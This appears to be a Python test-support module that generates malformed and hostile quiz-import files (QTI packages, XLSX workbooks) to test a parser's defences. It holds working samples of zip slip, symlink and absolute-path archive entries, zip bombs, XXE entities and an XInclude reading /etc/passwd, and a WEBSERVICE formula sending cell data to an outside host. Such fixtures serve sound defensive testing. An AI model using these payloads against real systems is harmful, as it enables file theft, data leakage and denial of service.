"""QTI files, packages, workbooks and Word sheets that mean harm, made from a seed."""

import io
import random
import zipfile

import docx

from quizzes.exporters import WRITERS, ExportedBank, ExportedItem
from quizzes.importers.xlsx_columns import COLUMNS

ITEM = (
    '<?xml version="1.0"?><assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="q" title="t">'
    '<responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier"><correctResponse><value>A</value>'
    "</correctResponse></responseDeclaration><itemBody><p>Hỏi?</p>"
    '<choiceInteraction responseIdentifier="RESPONSE" maxChoices="1"><simpleChoice identifier="A">a</simpleChoice>'
    '<simpleChoice identifier="B">b</simpleChoice></choiceInteraction></itemBody></assessmentItem>'
)
OLD = (
    '<?xml version="1.0"?><questestinterop><item ident="i1" title="t"><presentation><material><mattext>Hỏi?</mattext></material>'
    '<response_lid ident="r" rcardinality="Single"><render_choice><response_label ident="a"><material><mattext>a</mattext>'
    '</material></response_label><response_label ident="b"><material><mattext>b</mattext></material></response_label>'
    "</render_choice></response_lid></presentation><resprocessing><respcondition><conditionvar>"
    '<varequal respident="r">a</varequal></conditionvar><setvar action="Set" varname="SCORE">100</setvar></respcondition>'
    "</resprocessing></item></questestinterop>"
)
MANIFEST = (
    '<manifest><resources><resource type="imsqti_item_xmlv2p1" href="{href}"><file href="{href}"/>'
    "</resource></resources></manifest>"
)
DTD = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'


def zip_of(parts: dict[str, bytes], *, level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def good_bank() -> ExportedBank:
    key = {"correct": ["c1"], "scoring": "all_or_nothing", "choice_feedback": {}, "feedback": ""}
    choices = [{"id": "c1", "text": "một"}, {"id": "c2", "text": "hai"}]
    item = ExportedItem(
        code="Q1", kind="single_choice", content={"stem": "<p>Hỏi?</p>", "choices": choices}, key=key
    )
    return ExportedBank(name="Đề", items=(item,) * 3)


def _cut(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(len(data))]


def _flipped(rng: random.Random, data: bytes) -> bytes:
    spoilt = bytearray(data)
    for _ in range(rng.randrange(1, 60)):
        spoilt[rng.randrange(len(spoilt))] = rng.randrange(256)
    return bytes(spoilt)


def _doubled(rng: random.Random, data: bytes) -> bytes:
    place = rng.randrange(len(data))
    return data[:place] + data[place : place + rng.randrange(1, 400)] * rng.randrange(2, 50) + data[place:]


def _wrong_words(rng: random.Random, data: bytes) -> bytes:
    """Values of the wrong kind: names, numbers and identifiers replaced."""
    words = (
        b"single",
        b"multiple",
        b"ordered",
        b"identifier",
        b"float",
        b"100",
        b"RESPONSE",
        b"Single",
        b"A",
        b"r",
    )
    for _ in range(rng.randrange(1, 5)):
        data = data.replace(
            rng.choice(words), rng.choice((b"", b"-1e99", b"NaN", b"directedPair", b"9" * 400, b"\xc3\x28"))
        )
    return data


_SPOILERS = (_cut, _flipped, _doubled, _wrong_words)


def seeded_files(seed: int, count: int) -> list[tuple[str, bytes]]:
    """``count`` files by format, each a good one spoilt."""
    rng = random.Random(seed)
    bank = good_bank()
    good = [
        ("qti", ITEM.encode()),
        ("qti", OLD.encode()),
        ("qti", WRITERS["qti"].write(bank).data),
        ("xlsx", WRITERS["xlsx"].write(bank).data),
        (
            "qti",
            zip_of(
                {"imsmanifest.xml": MANIFEST.format(href="a.xml").encode(), "a.xml": ITEM.encode()}, level=0
            ),
        ),
    ]
    files = []
    for _ in range(count):
        kind, data = rng.choice(good)
        for _again in range(rng.randrange(1, 3)):
            data = rng.choice(_SPOILERS)(rng, data) if data else data
        files.append((kind, data))
    return files


def _symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        entry = zipfile.ZipInfo("items/a.xml")
        entry.external_attr = 0o120777 << 16
        package.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _sheet(rows: str, dimension: str = "A1") -> bytes:
    head = "".join(
        f'<c r="{chr(65 + place)}1" t="inlineStr"><is><t>{column.vietnamese}</t></is></c>'
        for place, column in enumerate(COLUMNS[:13])
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return zip_of(
        {
            "[Content_Types].xml": (
                f'<Types xmlns="{types}"><Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
                f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
                f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
                f'Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
            ).encode(),
            "xl/worksheets/sheet1.xml": (
                f'<worksheet xmlns="{main}"><dimension ref="{dimension}"/><sheetData>'
                f'<row r="1">{head}</row>{rows}</sheetData></worksheet>'
            ).encode(),
        },
        level=1,
    )


def made_files() -> dict[str, tuple[str, bytes]]:
    """One file for each trick that is known."""
    deep = "<p>" * 5000 + "x" + "</p>" * 5000
    many = "".join(f'<simpleChoice identifier="C{n}">x</simpleChoice>' for n in range(20_000))
    cells = '<c r="D{n}" t="inlineStr"><is><t>Hỏi {n}?</t></is></c>'
    rows = "".join(f'<row r="{n}">{cells.format(n=n)}</row>' for n in range(2, 100_002))
    conditions = "".join(f'<respcondition><conditionvar><varequal respident="r">{n}</varequal></conditionvar><setvar>1</setvar>'
        "</respcondition>" for n in range(20_000))  # fmt: skip
    return {
        "zip slip": ("qti", zip_of({"../a.xml": ITEM.encode(), "imsmanifest.xml": MANIFEST.format(href="../a.xml").encode()})),
        "absolute name": ("qti", zip_of({"/etc/a.xml": ITEM.encode(), "imsmanifest.xml": b"<manifest/>"})),
        "drive name": ("xlsx", zip_of({"C:\\a.xml": b"x", "xl/workbook.xml": b"<x/>"})),
        "symbolic link": ("qti", _symlink()),
        "zip bomb": ("qti", zip_of({"imsmanifest.xml": b"<manifest/>", "a.xml": b"<a>" + b" " * 60_000_000 + b"</a>"})),
        "workbook bomb": ("xlsx", zip_of({"xl/workbook.xml": b"<x>" + b" " * 60_000_000 + b"</x>"})),
        "many parts": ("qti", zip_of({f"i{n}.xml": b"<a/>" for n in range(25_000)}, level=0)),
        "DTD in an item": ("qti", ITEM.replace("<assessmentItem", DTD + "<assessmentItem", 1).encode()),
        "DTD in an old file": ("qti", OLD.replace("<questestinterop", DTD + "<questestinterop", 1).encode()),
        "DTD in UTF-16": ("qti", (DTD + "<assessmentItem/>").encode("utf-16")),
        "DTD in a manifest": ("qti", zip_of({"imsmanifest.xml": (DTD + "<manifest/>").encode()})),
        "DTD in a part": (
            "qti", zip_of({"imsmanifest.xml": MANIFEST.format(href="a.xml").encode(), "a.xml": (DTD + "<a/>").encode()})
        ),
        "DTD in a workbook": ("xlsx", zip_of({"xl/workbook.xml": (DTD + "<workbook/>").encode()})),
        "XInclude": ("qti", ITEM.replace("<p>Hỏi?</p>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" '
            'parse="text"/><p>x</p>').encode()),
        "deep nesting": ("qti", ITEM.replace("<p>Hỏi?</p>", deep).encode()),
        "20,000 choices": ("qti", ITEM.replace('<simpleChoice identifier="A">a</simpleChoice>', many).encode()),
        "20,000 conditions": ("qti", OLD.replace("<resprocessing>", "<resprocessing>" + conditions).encode()),
        "30 million tags": ("qti", b"<questestinterop>" + b"<a/>" * 7_000_000 + b"</questestinterop>"),
        "manifest to nowhere": ("qti", zip_of({"imsmanifest.xml": MANIFEST.format(href="none.xml").encode()})),
        "manifest to itself": ("qti", zip_of({"imsmanifest.xml": MANIFEST.format(href="imsmanifest.xml").encode()})),
        "100,000 rows": ("xlsx", _sheet(rows)),
        "last row and column": ("xlsx", _sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', "A1:XFD1048576")),
        "formula": ("xlsx", _sheet('<row r="2"><c r="D2"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>1</v></c></row>')),
        "rows out of order": ("xlsx", _sheet('<row r="9"><c r="D9"><v>1</v></c></row><row r="2"><c r="D2"><v>2</v></c></row>')),
        "shared string to nowhere": ("xlsx", _sheet('<row r="2"><c r="D2" t="s"><v>99</v></c></row>')),
        "number that is none": ("xlsx", _sheet('<row r="2"><c r="D2"><v>abc</v></c></row>')),
        "not a ZIP": ("xlsx", b"PK\x03\x04" + b"x" * 500),
        "nothing": ("qti", b""),
        "zero bytes": ("qti", b"\x00" * 1000),
    }  # fmt: skip


def word_sheet(lines: list[str]) -> bytes:
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()
